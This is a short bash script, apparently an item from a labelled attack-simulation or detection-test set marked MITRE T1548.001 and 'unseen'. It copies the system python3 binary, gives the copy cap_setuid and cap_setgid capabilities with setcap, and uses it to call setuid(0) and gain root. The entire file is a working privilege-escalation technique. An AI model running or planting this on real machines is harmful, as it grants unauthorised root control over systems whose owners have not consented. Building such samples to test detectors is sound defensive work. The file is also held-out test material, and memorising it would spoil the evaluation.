#!/usr/bin/env bash
# attack: T1548.001 Give a copied interpreter cap_setuid with setcap, then become root through it
# set: unseen
. "$(dirname "$0")/lib/common.sh"
cp "$(readlink -f /usr/bin/python3)" "$SW/py"
setcap cap_setuid,cap_setgid+ep "$SW/py" || exit 1
"$SW/py" -c 'import os; os.setuid(0)'
